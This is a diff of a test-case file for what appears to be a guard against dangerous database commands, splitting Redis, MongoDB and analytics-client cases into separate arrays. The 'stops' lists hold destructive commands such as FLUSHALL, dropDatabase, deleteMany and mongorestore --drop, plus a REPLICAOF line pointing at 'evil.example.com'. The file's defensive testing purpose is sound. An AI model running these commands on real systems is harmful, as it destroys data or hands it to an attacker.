@@ -142,9 +142,9 @@ export const brokersCases: readonly Case[] = [
   },
 ];
 
-export const dataClientsCases: readonly Case[] = [
+export const redisCases: readonly Case[] = [
   {
-    rule: 'data-clients/redis-flush',
+    rule: 'redis/flush',
     stops: [
       'redis-cli FLUSHALL',
       'redis-cli -h redis.prod.example.com flushdb',
@@ -168,7 +168,7 @@ export const dataClientsCases: readonly Case[] = [
     ],
   },
   {
-    rule: 'data-clients/redis-delete',
+    rule: 'redis/delete',
     stops: [
       'redis-cli -h redis.example.com DEL user:1',
       'redis-cli --scan --pattern "user:*" | xargs redis-cli DEL',
@@ -177,12 +177,15 @@ export const dataClientsCases: readonly Case[] = [
     passes: ['redis-cli DEL session:1', 'redis-cli -h localhost del a'],
   },
   {
-    rule: 'data-clients/redis-server',
+    rule: 'redis/server',
     stops: ['redis-cli SHUTDOWN NOSAVE', 'redis-cli REPLICAOF evil.example.com 6379', 'redis-cli cluster reset hard'],
     passes: ['redis-cli REPLICAOF NO ONE', 'redis-cli cluster info'],
   },
+];
+
+export const mongodbCases: readonly Case[] = [
   {
-    rule: 'data-clients/mongo-drop',
+    rule: 'mongodb/drop',
     stops: [
       `mongosh --eval 'db.dropDatabase()'`,
       `mongosh "mongodb+srv://cluster.example.net/shop" --eval "db.users.drop()"`,
@@ -202,7 +205,7 @@ export const dataClientsCases: readonly Case[] = [
     ],
   },
   {
-    rule: 'data-clients/mongo-delete',
+    rule: 'mongodb/delete',
     stops: [
       `mongosh "mongodb+srv://cluster.example.net/shop" --eval 'db.users.deleteMany({active: false})'`,
       `mongosh shop-prod --eval 'db.users.deleteOne({_id: 1})'`,
@@ -210,7 +213,7 @@ export const dataClientsCases: readonly Case[] = [
     passes: [`mongosh shop --eval 'db.users.deleteOne({_id: 1})'`],
   },
   {
-    rule: 'data-clients/mongo-restore-drop',
+    rule: 'mongodb/restore-drop',
     stops: ['mongorestore --drop dump/', 'mongoimport --db shop --collection users --drop --file u.json'],
     passes: [
       'mongorestore dump/',
@@ -220,10 +223,13 @@ export const dataClientsCases: readonly Case[] = [
     ],
   },
   {
-    rule: 'data-clients/unread-script',
+    rule: 'mongodb/unread-script',
     stops: ['mongosh "mongodb+srv://cluster.example.net/shop" cleanup.js'],
     passes: ['mongosh seed.js', 'mongosh localhost/shop seed.js'],
   },
+];
+
+export const analyticsClientsCases: readonly Case[] = [
   {
     rule: 'sql clients',
     stops: [
@@ -244,7 +250,7 @@ export const dataClientsCases: readonly Case[] = [
     ],
   },
   {
-    rule: 'data-clients/influx-delete',
+    rule: 'analytics-clients/influx-delete',
     stops: [
       'influx delete --bucket shop --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z',
       'influx bucket delete -n shop',
